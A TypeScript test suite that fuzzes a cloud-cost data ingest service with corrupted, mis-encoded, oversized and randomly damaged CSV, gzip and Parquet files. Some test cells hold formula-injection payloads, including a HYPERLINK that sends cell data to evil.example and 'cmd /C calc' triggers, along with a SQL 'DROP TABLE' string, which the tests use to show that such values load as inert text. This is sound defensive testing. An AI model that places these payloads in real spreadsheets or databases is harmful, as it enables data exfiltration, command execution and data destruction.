/**
 * Hostile and broken files through the real ingest service (and once through the CLI): truncated CSV, wrong
 * encodings, NUL bytes, huge fields and rows, formula cells, deeply nested JSON, 10,000 columns, empty files, duplicate
 * headers, byte-order marks, corrupted gzip and Parquet, and random mutations of real files. Each ends in a clean load
 * or an IngestError that names the file (and line and column where there is one), within a time limit, and a failed
 * file leaves the database exactly as it was.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import Papa from 'papaparse';
import { parquetMetadata } from 'hyparquet';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { costSummary } from '../src/analytics/summary.ts';
import { COST_AND_USAGE_COLUMNS } from '../src/focus/columns.ts';
import { MAX_JSON_DEPTH } from '../src/focus/values.ts';
import { IngestError } from '../src/ingest/errors.ts';
import { fileSource, ingest, type IngestOptions, type IngestSummary } from '../src/ingest/service.ts';
import { MAX_ROW_CHARS } from '../src/ingest/sources.ts';
import { compileCostRecordFilter } from '../src/query/cost-record-filter.ts';
import { COST_RECORD_ALIAS } from '../src/query/cost-records.ts';
import { databaseFingerprint, expectIntactDatabase, FUZZ_SEED, fuzzParameters, INJECTION_PAYLOADS } from './fuzz-support.ts';
import { AWS_COMMITMENT_SAMPLE, AWS_COST_SAMPLE, PROJECT_ROOT, tempDatabase } from './helpers.ts';

/** Longer than any of these files takes: past it, an ingest counts as hung. */
const INGEST_TIME_LIMIT_MS = 20_000;

let database: Awaited<ReturnType<typeof tempDatabase>>;
let files: string;
let fileNumber = 0;

const [HEADER, ...ROWS] = Papa.parse<string[]>(readFileSync(AWS_COST_SAMPLE, 'utf8').trim()).data;
const column = (name: string) => HEADER.indexOf(name);
const csvCell = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
const csvText = (rows: string[][]) => `${rows.map((row) => row.map(csvCell).join(',')).join('\n')}\n`;
/** The first rows of the real sample, with one row's cells replaced: `cells` maps column names to new text. */
function sampleCsv(cells: Record<string, string> = {}, rowCount = 3): string {
  const rows = ROWS.slice(0, rowCount).map((row) => [...row]);
  for (const [name, value] of Object.entries(cells)) rows[0][column(name)] = value;
  return csvText([HEADER, ...rows]);
}
const SMALL_SAMPLE = sampleCsv({}, 20);

function write(name: string, content: string | Buffer): string {
  const file = path.join(files, `${String(++fileNumber).padStart(4, '0')}-${name}`);
  writeFileSync(file, content);
  return file;
}

/** Tables an ingest changes rows of in place (upserts, batch status), besides adding rows. */
const UPDATED_IN_PLACE = ['billing_accounts', 'sub_accounts', 'commitments', 'ingest_batches'];

/**
 * Row counts and highest ids of every table, and the content of those updated in place: what any write, even one
 * rolled back half way through a bulk insert, would change.
 */
function state(): Record<string, string> {
  const db = database.db;
  const tables = db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name").pluck().all() as string[];
  const totals = Object.fromEntries(tables.map((table) => [table, JSON.stringify(db.prepare(`SELECT COUNT(*), MAX(rowid) FROM "${table}"`).raw(true).get())]));
  const contents = databaseFingerprint(db, tables.filter((table) => !UPDATED_IN_PLACE.includes(table)));
  return { ...totals, ...contents };
}

type Outcome = { loaded: IngestSummary; error?: undefined } | { error: IngestError; loaded?: undefined };

/** Ingests a file within the time limit: a clean load, or an IngestError with the database left as it was. */
async function attempt(file: string, options: IngestOptions = {}): Promise<Outcome> {
  const before = state();
  const costRows = () => database.db.prepare('SELECT COUNT(*) FROM cost_records').pluck().get() as number;
  const rowsBefore = costRows();
  let timer: NodeJS.Timeout | undefined;
  const hung = new Promise<never>((_resolve, reject) => (timer = setTimeout(() => reject(new Error(`ingest of ${file} still running after ${INGEST_TIME_LIMIT_MS} ms`)), INGEST_TIME_LIMIT_MS)));
  try {
    const loaded = await Promise.race([ingest(database.db, fileSource(file), options), hung]);
    expect(database.db.inTransaction).toBe(false);
    if (loaded.status === 'LOADED' && loaded.dataset === 'CostAndUsage') expect(costRows()).toBe(rowsBefore + loaded.rowsLoaded);
    if (loaded.status === 'ALREADY_LOADED') expect(state()).toEqual(before);
    return { loaded };
  } catch (error) {
    if (!(error instanceof IngestError)) throw error;
    expect(error.file).toBe(file);
    expect(error.message.length).toBeGreaterThan(0);
    if (error.line !== null) expect(error.line).toBeGreaterThanOrEqual(1);
    expect(database.db.inTransaction).toBe(false);
    expect(state()).toEqual(before);
    return { error };
  } finally {
    clearTimeout(timer);
  }
}

async function expectRejected(file: string, where: { line?: number | null; column?: number | null; message: RegExp }, options: IngestOptions = {}) {
  const outcome = await attempt(file, options);
  expect(outcome.error, outcome.loaded ? `loaded ${outcome.loaded.rowsLoaded} rows` : '').toBeInstanceOf(IngestError);
  expect(outcome.error!.message).toMatch(where.message);
  if (where.line !== undefined) expect(outcome.error!.line).toBe(where.line);
  if (where.column !== undefined) expect(outcome.error!.column).toBe(where.column);
  return outcome.error!;
}

async function expectLoaded(file: string, rows: number): Promise<IngestSummary> {
  const outcome = await attempt(file);
  expect(outcome.error).toBeUndefined();
  expect(outcome.loaded!.status).toBe('LOADED');
  expect(outcome.loaded!.rowsLoaded).toBe(rows);
  return outcome.loaded!;
}

/** The stored text of a column of the last row loaded. */
function storedValue(dbColumn: string): string {
  return database.db.prepare(`SELECT ${dbColumn} FROM cost_records ORDER BY id DESC LIMIT 1`).pluck().get() as string;
}

const nestedTags = (depth: number) => `{"team":${'['.repeat(depth - 1)}${']'.repeat(depth - 1)}}`;

beforeAll(async () => {
  database = await tempDatabase();
  files = path.join(database.dir, 'files');
  mkdirSync(files);
});

afterAll(() => {
  database.close();
});

describe('hostile CSV files', () => {
  it('a file cut off mid-row or mid-quote, or with a quote that never closes, is rejected at the broken row', async () => {
    const text = SMALL_SAMPLE;
    const lines = text.split('\n');
    await expectRejected(write('cut-mid-row.csv', `${lines.slice(0, 5).join('\n')}\n${lines[5].slice(0, 40)}`), { line: 6, message: /expected 65 fields/ });
    const quoted = text.indexOf('"{""Elements', text.indexOf('\n', text.indexOf('\n') + 1));
    await expectRejected(write('cut-mid-quote.csv', text.slice(0, quoted + 20)), { message: /fields/ });
    await expectRejected(write('unclosed-quote.csv', text.replace('ExampleCorp', '"ExampleCorp')), { line: 2, message: /fields/ });
  });

  it('text that is not UTF-8 is rejected with its line, never loaded as U+FFFD', async () => {
    const latin1 = Buffer.from(sampleCsv({ BillingAccountName: 'Caf\u00e9 M\u00fcller' }), 'latin1');
    await expectRejected(write('latin1.csv', latin1), { line: 2, message: /not UTF-8 text \(byte 0xE9/ });
    await expectRejected(write('utf16le.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(SMALL_SAMPLE, 'utf16le')])), { line: 1, message: /UTF-16/ });
    await expectRejected(write('utf16be.csv', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(SMALL_SAMPLE, 'utf16le').swap16()])), { line: 1, message: /UTF-16/ });
    const truncatedCharacter = Buffer.concat([Buffer.from(SMALL_SAMPLE.trimEnd()), Buffer.from([0xe2, 0x82])]);
    await expectRejected(write('cut-character.csv', truncatedCharacter), { line: 21, message: /not UTF-8/ });
  });

  it('keeps characters whole that straddle the reader\'s chunks, plain and gzipped', async () => {
    // Many rows of multi-byte names: some character is split between two of the reader's chunks.
    const name = 'Z\u00fcrich \u6771\u4eac \ud83d\udcb8 ';
    const rows = Array.from({ length: 4000 }, (_, index) => {
      const row = [...ROWS[index % ROWS.length]];
      row[column('InvoiceId')] = `INV-${index}`;
      row[column('ChargeDescription')] = `${name}${index}`.padEnd(300, '\u00e9');
      return row;
    });
    const text = csvText([HEADER, ...rows]);
    for (const [fileName, content] of [['multibyte.csv', Buffer.from(text)], ['multibyte.csv.gz', gzipSync(text)]] as const) {
      const loaded = await expectLoaded(write(fileName, content), rows.length);
      const damaged = database.db.prepare("SELECT COUNT(*) FROM cost_records WHERE batch_id = ? AND (charge_description LIKE '%' || char(65533) || '%')").pluck().get(loaded.batchId);
      expect(damaged).toBe(0);
      const stored = database.db.prepare('SELECT charge_description FROM cost_records WHERE batch_id = ? ORDER BY id').pluck().all(loaded.batchId);
      expect(stored).toEqual(rows.map((row) => row[column('ChargeDescription')]));
    }
  });

  it('NUL bytes, formula cells and injection text load exactly as written', async () => {
    const cells = {
      BillingAccountName: 'Example\u0000Corp',
      SubAccountName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      ChargeDescription: '+cmd|\' /C calc\'!A0',
      InvoiceId: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      ResourceName: '-2+3+cmd|\' /C calc\'!A0',
      ResourceId: "'; DROP TABLE cost_records; --",
      SkuId: '\t=1+1',
    };
    await expectLoaded(write('formulas.csv', sampleCsv(cells, 1)), 1);
    const stored = database.db.prepare('SELECT billing_account_name, sub_account_name, charge_description, invoice_id, resource_name, resource_id, sku_id FROM cost_records ORDER BY id DESC LIMIT 1').raw(true).get();
    expect(stored).toEqual(Object.values(cells));
    await expectRejected(write('nul-in-header.csv', SMALL_SAMPLE.replaceAll(',', ',\u0000')), { line: 1, message: /not a FOCUS Cost and Usage file/ });
  });

  it('a 1 MB field loads; a row without end is refused at its line once it passes the row limit', async () => {
    await expectLoaded(write('huge-field.csv', sampleCsv({ ChargeDescription: 'x'.repeat(1 << 20) }, 2)), 2);
    expect(storedValue('charge_description')).toBe(ROWS[1][column('ChargeDescription')]);
    expect(database.db.prepare('SELECT MAX(length(charge_description)) FROM cost_records').pluck().get()).toBe(1 << 20);
    const limit = new RegExp(`longer than ${MAX_ROW_CHARS / 1024 / 1024} MiB`);
    await expectRejected('/dev/zero', { line: 1, message: limit });
    // A few MiB past the limit: the reader counts from the piece of text in which the last row ended.
    const past = MAX_ROW_CHARS + (4 << 20);
    await expectRejected(write('zeros.csv.gz', gzipSync(Buffer.alloc(past))), { line: 1, message: limit });
    await expectRejected(write('endless-quote.csv.gz', gzipSync(`${SMALL_SAMPLE}"${'x\n'.repeat(past / 2)}`)), { line: 22, message: limit });
  });

  it(`JSON nested deeper than SQLite reads (${MAX_JSON_DEPTH} levels) is refused; what loads can always be queried`, async () => {
    const tags = column('Tags') + 1;
    await expectRejected(write('tags-10000-deep.csv', sampleCsv({ Tags: nestedTags(10_000) })), { line: 2, column: tags, message: /nested more than 1000 levels/ });
    await expectRejected(write('tags-1001-deep.csv', sampleCsv({ Tags: nestedTags(MAX_JSON_DEPTH + 1) })), { line: 2, column: tags, message: /nested more than 1000 levels/ });
    const details = column('SkuPriceDetails') + 1;
    await expectRejected(write('details-deep.csv', sampleCsv({ SkuPriceDetails: `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}` })), { line: 2, column: details, message: /nested/ });
    // Brackets inside strings are text, not nesting.
    await expectLoaded(write('tags-brackets-in-strings.csv', sampleCsv({ Tags: JSON.stringify({ team: '['.repeat(5000), 'x\\"[': '{{{' }) })), 3);
    await expectLoaded(write('tags-1000-deep.csv', sampleCsv({ Tags: nestedTags(MAX_JSON_DEPTH) })), 3);
    const where = compileCostRecordFilter({ tag: [{ key: 'team' }] }, COST_RECORD_ALIAS);
    expect(database.db.prepare(`SELECT COUNT(*) FROM cost_records ${COST_RECORD_ALIAS} WHERE ${where.sql}`).pluck().get(...where.params)).toBeGreaterThan(0);
  });

  it('10,000 columns load, the extra ones kept per row', async () => {
    const extra = Array.from({ length: 10_000 }, (_, index) => `x_Column${index}`);
    const rows = ROWS.slice(0, 2).map((row) => [...row, ...extra.map((_, index) => `v${index}`)]);
    await expectLoaded(write('wide.csv', csvText([[...HEADER, ...extra], ...rows])), 2);
    const kept = JSON.parse(storedValue('extra_columns')) as Record<string, string>;
    expect(Object.keys(kept)).toHaveLength(10_000);
    expect(kept.x_Column9999).toBe('v9999');
  });

  it('empty files, header-only files, duplicate headers and byte-order marks', async () => {
    await expectRejected(write('empty.csv', ''), { message: /empty/ });
    await expectRejected(write('blank-lines.csv', '\n\n\n'), { message: /empty/ });
    await expectRejected(write('blank-crlf-lines.csv', '\r\n\r\n'), { message: /empty/ });
    await expectLoaded(write('header-only.csv', `${HEADER.join(',')}\n`), 0);
    await expectLoaded(write('header-only-no-newline.csv', HEADER.join(',')), 0);
    const duplicated = csvText([[...HEADER, 'BilledCost'], ...ROWS.slice(0, 2).map((row) => [...row, '1'])]);
    await expectRejected(write('duplicate-header.csv', duplicated), { line: 1, column: HEADER.length + 1, message: /appears twice/ });
    const differentCase = csvText([[...HEADER, 'billedcost'], ...ROWS.slice(0, 2).map((row) => [...row, '1'])]);
    await expectRejected(write('duplicate-header-case.csv', differentCase), { line: 1, column: HEADER.length + 1, message: /appears twice/ });
    await expectLoaded(write('utf8-bom.csv', `\ufeff${sampleCsv({ InvoiceId: 'bom-1' })}`), 3);
    await expectLoaded(write('two-boms.csv', `\ufeff\ufeff${sampleCsv({ InvoiceId: 'bom-2' })}`), 3);
  });

  it('broken gzip, a directory and a missing file are rejected as unreadable', async () => {
    const gzipped = gzipSync(SMALL_SAMPLE);
    await expectRejected(write('cut.csv.gz', gzipped.subarray(0, gzipped.length / 2)), { message: /cannot read gzip file/ });
    const badCrc = Buffer.from(gzipped);
    badCrc[badCrc.length - 6] ^= 0xff;
    await expectRejected(write('bad-crc.csv.gz', badCrc), { message: /cannot read gzip file/ });
    await expectRejected(write('only-magic.csv.gz', Buffer.from([0x1f, 0x8b])), { message: /gzip/ });
    const directory = path.join(files, 'a-directory.csv');
    mkdirSync(directory);
    await expectRejected(directory, { message: /EISDIR|directory/ });
    await expectRejected(path.join(files, 'missing.csv'), { message: /ENOENT|no such file/ });
  });
});

describe('random damage to real files', () => {
  const hostileCell = fc.oneof(
    fc.constantFrom(...INJECTION_PAYLOADS),
    fc.constantFrom('=1+1', '+1', '-1', '@A1', '"', '""', '\r', '\n', '\r\n', ',', '\u0000', '\ufeff', 'NULL', '1e309', '-0', '9'.repeat(400), '$1,000.00', '4/1/25', '2026-02-30T00:00:00Z', '{"a":', '[]', '{}', nestedTags(1200)),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.string({ unit: 'grapheme', maxLength: 10 }),
  );
  const hostileBytes = fc.oneof(
    fc.constantFrom(...['\u0000', '"', ',', '\r', '\n', '\ufeff', '\ud800'].map((text) => Buffer.from(text))),
    fc.constantFrom(Buffer.from([0xff]), Buffer.from([0xc3]), Buffer.from([0xe2, 0x82]), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from([0xc0, 0x80])),
    fc.uint8Array({ minLength: 1, maxLength: 8 }).map((bytes) => Buffer.from(bytes)),
  );
  /** One change to the bytes of a file, at a fraction of its length: cut it there, drop a run, insert bytes, flip a bit. */
  type Damage = ['cut', number] | ['drop', number, number] | ['insert', number, Buffer] | ['flip', number, number];
  const place = fc.double({ min: 0, max: 1, noNaN: true });
  const byteDamage: fc.Arbitrary<Damage> = fc.oneof(
    fc.tuple(fc.constant('cut' as const), place),
    fc.tuple(fc.constant('drop' as const), place, fc.integer({ min: 1, max: 200 })),
    fc.tuple(fc.constant('insert' as const), place, hostileBytes),
    fc.tuple(fc.constant('flip' as const), place, fc.integer({ min: 0, max: 7 })),
  );
  function damaged(original: Buffer, damages: Damage[]): Buffer {
    let bytes = Buffer.from(original);
    for (const damage of damages) {
      const at = Math.floor(damage[1] * bytes.length);
      if (damage[0] === 'cut') bytes = bytes.subarray(0, at);
      else if (damage[0] === 'drop') bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + damage[2])]);
      else if (damage[0] === 'insert') bytes = Buffer.concat([bytes.subarray(0, at), damage[2], bytes.subarray(at)]);
      else if (at < bytes.length) bytes[at] ^= 1 << damage[2];
    }
    return bytes;
  }

  it('CSV with hostile cells, headers and bytes: a clean load or an IngestError, never a partial batch', async () => {
    const cellDamage = fc.array(fc.tuple(fc.nat({ max: 20 }), fc.constantFrom(...HEADER, 'x_Extra'), hostileCell), { maxLength: 4 });
    const headerDamage = fc.option(fc.tuple(fc.nat({ max: HEADER.length - 1 }), fc.oneof(fc.constantFrom(...HEADER, '', ' BilledCost ', 'billedcost', 'ProviderName'), hostileCell)), { freq: 4 });
    await fc.assert(
      fc.asyncProperty(cellDamage, headerDamage, fc.array(byteDamage, { maxLength: 2 }), fc.boolean(), fc.boolean(), async (cells, header, bytes, gzipped, skipInvalid) => {
        const rows = [[...HEADER], ...ROWS.slice(0, 20).map((row) => [...row])];
        for (const [row, name, value] of cells) {
          const index = rows[0].indexOf(name);
          if (index === -1) rows.forEach((cellsOfRow, at) => cellsOfRow.push(at === 0 ? name : at - 1 === row ? value : ''));
          else rows[1 + (row % 20)][index] = value;
        }
        if (header) rows[0][header[0]] = header[1];
        const text = damaged(Buffer.from(csvText(rows)), bytes);
        const outcome = await attempt(write(gzipped ? 'damaged.csv.gz' : 'damaged.csv', gzipped ? gzipSync(text) : text), { skipInvalid });
        if (outcome.loaded?.status === 'LOADED') expect(outcome.loaded.rowsLoaded + outcome.loaded.rowsSkipped).toBe(outcome.loaded.rowsRead);
      }),
      fuzzParameters(120),
    );
  });

  it('damaged gzip: a clean load or an IngestError', async () => {
    const gzipped = gzipSync(SMALL_SAMPLE);
    await fc.assert(
      fc.asyncProperty(fc.array(byteDamage, { minLength: 1, maxLength: 3 }), async (bytes) => {
        await attempt(write('damaged.csv.gz', damaged(gzipped, bytes)));
      }),
      fuzzParameters(60),
    );
  });

  describe('Parquet', () => {
    const rows = ROWS.slice(0, 60);
    const parquet = Buffer.from(
      parquetWriteBuffer({
        columnData: HEADER.map((name, index) => ({ name, data: rows.map((row) => (row[index] === '' ? null : row[index])), type: 'STRING' as const })),
        rowGroupSize: 20,
      }),
    );
    // Parquet is decoded in a worker thread, which a decoder caught in an endless loop is stopped out of.
    const stalls = { readerStallMs: 2000 };

    it('damaged Parquet, truncated or with flipped bytes (in its data or its footer): a clean load or an IngestError', async () => {
      await expectLoaded(write('whole.parquet', parquet), rows.length);
      const footerStart = parquet.length - 8 - parquet.readUInt32LE(parquet.length - 8);
      const footerDamage = fc.tuple(fc.constant('flip' as const), fc.double({ min: footerStart / parquet.length, max: 1, noNaN: true }), fc.integer({ min: 0, max: 7 })) as fc.Arbitrary<Damage>;
      await fc.assert(
        fc.asyncProperty(fc.array(fc.oneof(byteDamage, footerDamage, footerDamage), { minLength: 1, maxLength: 4 }), async (bytes) => {
          await attempt(write('damaged.parquet', damaged(parquet, bytes)), stalls);
        }),
        fuzzParameters(25),
      );
      await expectRejected(write('magic-only.parquet', Buffer.from('PAR1')), { message: /./ });
      await expectRejected(write('two-magics.parquet', Buffer.from('PAR1PAR1')), { message: /./ });
    });

    it('a page header that sends the Parquet decoder into an endless loop ends in an IngestError, not a hang', async () => {
      // Found by the property above: one bit of a data page header of the first BillingAccountId column chunk. With
      // hyparquet 1.31 the decoder then loops for ever; the worker that runs it is stopped.
      const metadata = parquetMetadata(parquet.buffer.slice(parquet.byteOffset, parquet.byteOffset + parquet.length));
      const chunk = metadata.row_groups[0].columns.find((candidate) => candidate.meta_data?.path_in_schema[0] === 'BillingAccountId')!.meta_data!;
      const hostile = Buffer.from(parquet);
      hostile[Number(chunk.data_page_offset) + 16] ^= 0x80;
      const started = Date.now();
      await expectRejected(write('endless-loop.parquet', hostile), { message: /./ }, stalls);
      expect(Date.now() - started).toBeLessThan(INGEST_TIME_LIMIT_MS);
    });
  });

  it('damaged Contract Commitment files: a clean load or an IngestError', async () => {
    const commitments = readFileSync(AWS_COMMITMENT_SAMPLE);
    await fc.assert(
      fc.asyncProperty(fc.array(byteDamage, { minLength: 1, maxLength: 3 }), async (bytes) => {
        await attempt(write('damaged-commitments.csv', damaged(commitments, bytes)), { dataset: 'ContractCommitment' });
      }),
      fuzzParameters(60),
    );
  });

  it('left a sound database whose every JSON cell SQLite can read', () => {
    expectIntactDatabase(database.db);
    const jsonColumns = COST_AND_USAGE_COLUMNS.filter((definition) => definition.type === 'json').map((definition) => definition.dbColumn);
    // The cells themselves, so that a failure shows what was let through.
    const unreadable = jsonColumns.flatMap((name) =>
      (database.db.prepare(`SELECT ${name} AS cell FROM cost_records WHERE ${name} IS NOT NULL AND json_valid(${name}) = 0 LIMIT 3`).pluck().all() as string[]).map((cell) => ({ column: name, cell: JSON.stringify(cell).slice(0, 300) })),
    );
    expect(unreadable, `fuzz seed ${FUZZ_SEED}`).toEqual([]);
    // The queries that read Tags with SQLite's JSON functions answer over every row loaded.
    const summary = costSummary(database.db, { filter: { tag: [{ key: 'team', exists: false }] }, groupBy: ['tag:team'], metrics: ['rowCount'], limit: 10_000 });
    expect(summary.rows.length).toBeGreaterThan(0);
  });
});

it('the CLI reports each rejected file as file:line:column and loads the good ones', () => {
  const bad = [write('cli-latin1.csv', Buffer.from(sampleCsv({ BillingAccountName: 'Caf\u00e9' }), 'latin1')), write('cli-deep.csv', sampleCsv({ Tags: nestedTags(5000) }))];
  const good = write('cli-good.csv', sampleCsv({ InvoiceId: 'cli-good' }));
  const run = spawnSync(process.execPath, [path.join(PROJECT_ROOT, 'bin/focus-gateway.js'), 'ingest', ...bad, good], {
    cwd: database.dir,
    env: { ...process.env, DATABASE_URL: database.url },
    encoding: 'utf8',
  });
  expect(run.status).toBe(1);
  expect(run.stderr).toContain(`${bad[0]}:2: this line is not UTF-8 text`);
  expect(run.stderr).toContain(`${bad[1]}:2:${column('Tags') + 1}: Tags: JSON nested more than 1000 levels deep`);
  expect(run.stderr).not.toMatch(/\n\s+at /);
  expect(database.db.prepare("SELECT COUNT(*) FROM cost_records WHERE invoice_id = 'cli-good'").pluck().get()).toBe(1);
});
